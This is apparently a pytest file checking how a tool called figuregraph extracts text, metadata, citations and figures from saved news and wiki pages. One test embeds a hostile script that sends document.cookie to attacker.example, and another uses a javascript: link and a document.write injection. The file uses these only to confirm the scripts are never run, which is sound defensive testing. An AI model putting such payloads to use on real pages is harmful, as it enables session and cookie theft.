"""Issue 17: a saved news page written for the project: the main text without navigation, cookie
banner, adverts, related links and footer; the metadata; the links in the text as citations."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest

from figuregraph.extract import Lexicon, extract_document
from figuregraph.extract.lexicon import SourceEntry
from figuregraph.extract.reading import read

from .makers import CANONICAL, MINISTRY_URL, OUTLET_URL, news_page


@pytest.fixture()
def page(tmp_path: Path) -> Path:
    path = tmp_path / "article.html"
    path.write_text(news_page(), encoding="utf-8")
    return path


def test_main_text_and_metadata(page: Path) -> None:
    doc = read(page)
    assert doc.format == "html" and doc.converter.startswith("figuregraph-html ") and "trafilatura" in doc.converter
    meta = doc.metadata
    assert meta.title == "Courts record 684 desertion convictions in March"
    assert meta.publisher == "Baltic Ledger" and meta.authors == ("Anna Kowalska",)
    assert meta.published == "2024-04-24" and meta.url == CANONICAL and meta.language == "en-GB"
    for boilerplate in ("Top 10", "cookies", "Accept all", "40 %", "Related", "protesters", "12 %", "employees",
                        "999 000", "document.write", "position: fixed"):
        assert boilerplate not in doc.text, boilerplate
    assert "convicted 684 soldiers of desertion in March" in doc.text
    assert [(doc.text[k.start:k.end], k.href) for k in doc.links] == [("Ministry of Defence", MINISTRY_URL),
                                                                       ("Mediazona", OUTLET_URL)]


def test_links_are_citations_of_their_sentence(page: Path, lexicon: Lexicon) -> None:
    known = "mediazona-2024-04-desertion-data"
    lexicon = replace(lexicon, sources=[*lexicon.sources, SourceEntry(  # the module's lexicon is left as it is
        known, "Mediazona on desertion", "Desertion", "2024-04-20", "mediazona", (),
        OUTLET_URL.replace("https://", "http://www.") + "/")])  # matched by URL
    doc = read(page)
    ex = extract_document(doc, lexicon=lexicon)
    assert [(f.wording, f.value) for f in ex.figures] == [("684", Decimal(684)), ("7 400", Decimal(7400)),
                                                          ("496", Decimal(496))]  # none from the boilerplate
    assert ex.figures[0].citations[:2] == ["link-1", "link-2"]  # both links sit in its sentence
    assert not any(k.startswith("link-") for f in ex.figures[1:] for k in f.citations)
    ministry, outlet = ex.sources["link-1"], ex.sources["link-2"]
    assert ministry.new and ministry.url == MINISTRY_URL and ministry.kind == "web-page"
    assert ministry.publisher_name == "Ministry of Defence"
    assert not outlet.new and outlet.id == known
    notes = {n.number: n for n in ex.footnotes}
    assert notes["link-1"].text == f"Ministry of Defence <{MINISTRY_URL}>" and notes["link-1"].url
    assert ex.figures[0].reporter == "uk-ministry-of-defence"
    assert all(doc.text[f.start:f.end] == f.quote for f in ex.figures)


def test_a_link_target_not_in_the_graph_is_proposed_with_its_date(page: Path, lexicon: Lexicon) -> None:
    ex = extract_document(read(page), lexicon=lexicon)
    outlet = ex.sources["link-2"]
    assert outlet.new and outlet.publisher == "mediazona" and outlet.published == "2024-04-20"
    assert outlet.url == OUTLET_URL


def test_scripts_are_data_never_run(tmp_path: Path) -> None:
    path = tmp_path / "hostile.html"
    marker = tmp_path / "ran"
    hostile = f"require('fs').writeFileSync('{marker}', 'x'); fetch('https://attacker.example/?' + document.cookie);"
    path.write_text(news_page(hostile).replace("<p>Analysts", f"<script>{hostile}</script><p>Analysts"),
                    encoding="utf-8")
    doc = read(path)
    assert not marker.exists() and "attacker" not in doc.text and "writeFileSync" not in doc.text
    clean = tmp_path / "clean.html"
    clean.write_text(news_page(), encoding="utf-8")
    assert doc.text == read(clean).text  # the scripts left nothing in the text


def test_json_ld_alone_gives_the_metadata(tmp_path: Path) -> None:
    import re

    page = re.sub(r'<meta property="(?:og|article):[^>]*>\n', "", news_page())
    page = page.replace('<link rel="canonical"', '<link rel="alternate"').replace(
        '<p class="byline">By Anna Kowalska</p>', "").replace(" | Baltic Ledger</title>", "</title>")
    assert "og:" not in page and "published_time" not in page and "Anna" not in page.split("ld+json")[0]
    path = tmp_path / "ld.html"
    path.write_text(page, encoding="utf-8")
    meta = read(path).metadata
    assert (meta.publisher, meta.authors, meta.published) == ("Baltic Ledger", ("Anna Kowalska",), "2024-04-24")
    assert meta.url is None
    assert read(path, url="https://balticledger.example/saved").metadata.url == "https://balticledger.example/saved"


def test_a_year_in_the_prose_is_not_the_page_date(tmp_path: Path) -> None:
    path = tmp_path / "undated.html"
    path.write_text("<html><head><title>Convictions</title></head><body><article><p>The ministry said 684 "
                    "soldiers were convicted of desertion in March 2024, up from 2023.</p></article></body></html>",
                    encoding="utf-8")
    doc = read(path)
    assert doc.metadata.title == "Convictions" and doc.metadata.published is None  # no markup gives a date
    assert "684 soldiers" in doc.text


def _wiki_page(notes: list[str]) -> str:
    """A wiki article written for the project: bracketed markers linked to a reference list."""
    items = "".join(f'<li id="cite_note-{i}"><span class="mw-cite-backlink"><b><a href="#cite_ref-{i}">^</a></b>'
                    f'</span> <span class="reference-text">{note}</span></li>' for i, note in enumerate(notes, 1))
    return ("<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Desertion in the Russian "
            "army - Wiki</title></head><body><div id=\"nav\"><a href=\"/\">Wiki</a></div>"
            "<h1>Desertion in the Russian army</h1><div class=\"mw-parser-output\">"
            "<p>Military courts convicted 684 soldiers of desertion in March 2024."
            "<sup class=\"reference\"><a href=\"#cite_note-1\">[1]</a></sup> Prosecutors opened over 5 000 "
            "cases for unauthorised absence in 2023.<sup class=\"reference\"><a href=\"#cite_note-2\">[2]</a></sup>"
            "</p><p>The number of cases rose again in 2024, with 7 400 reported by the end of the year.<sup "
            "class=\"reference\"><a href=\"#cite_note-2\">[2]</a></sup></p>"
            f"<h2>References</h2><div class=\"reflist\"><ol class=\"references\">{items}</ol></div></div>"
            "<div id=\"footer\">Text is available under a free licence.</div></body></html>")


def test_a_reference_list_the_main_text_leaves_out_is_read(tmp_path: Path, lexicon: Lexicon) -> None:
    """trafilatura drops a reference list of links as boilerplate: the notes the markers link to are
    read from the page by id, so that "[1]" cites its entry."""
    path = tmp_path / "wiki.html"
    path.write_text(_wiki_page([
        f'<cite>"<a class="external" href="{OUTLET_URL}">Desertion convictions in March</a>". <i>Mediazona</i>. '
        "Retrieved 24 April 2024.</cite>",
        '<cite>"<a class="external" href="https://prosecutors.example/absence">Unauthorised absence cases</a>". '
        "<i>Prosecutor General's Office</i>. 10 January 2025.</cite>"]), encoding="utf-8")
    doc = read(path)
    references = doc.text[doc.text.index("References"):]
    assert references.splitlines()[2:] == [
        f'1. ^ "Desertion convictions in March". Mediazona. Retrieved 24 April 2024. {OUTLET_URL}',
        "2. ^ \"Unauthorised absence cases\". Prosecutor General's Office. 10 January 2025. "
        "https://prosecutors.example/absence"]
    assert "free licence" not in doc.text and not doc.links  # in-page links are text; the entries no links
    ex = extract_document(doc, lexicon=lexicon)
    assert [(f.wording, f.citations) for f in ex.figures] == [("684", ["1"]), ("over 5 000", ["2"]),
                                                              ("7 400", ["2"])]
    notes = {n.number: n for n in ex.footnotes}
    assert (notes["1"].publisher, notes["1"].title) == ("Mediazona", "Desertion convictions in March")
    assert notes["2"].title == "Unauthorised absence cases"


def test_a_notes_markup_stays_text(tmp_path: Path) -> None:
    """A note's scripts are dropped and its Markdown signs kept as written: a page cannot make a link
    or emphasis out of its reference list; a list the main text kept is not added again."""
    from figuregraph.extract.formats.html import _notes
    from figuregraph.extract.formats.markdown import read_markdown

    page = _wiki_page(["<script>document.write('999 999 victims')</script>[click](javascript:alert(1)) *Ministry* "
                       "report, 2024 &lt;b&gt;", "<style>li{color:red}</style>Second note_with_underscores, 2025."])
    body = "Courts convicted 684 soldiers.[\\[1\\]](#cite_note-1) Over 5 000 cases.[\\[2\\]](#cite_note-2)"
    text = read_markdown(None, body + _notes(page, body)).text
    assert text.splitlines()[2:] == ["References", "", "1. ^ [click](javascript:alert(1)) *Ministry* report, 2024 <b>",
                                     "2. ^ Second note_with_underscores, 2025."]
    assert "999 999" not in text and "color" not in text
    path = tmp_path / "wiki.html"
    path.write_text(page, encoding="utf-8")
    doc = read(path)  # this list is not link-dense: the main text keeps it, and it is not added again
    assert doc.text.count("References") == 1 and "note_with_underscores" in doc.text and not doc.links
    assert "999 999" not in doc.text and "color" not in doc.text
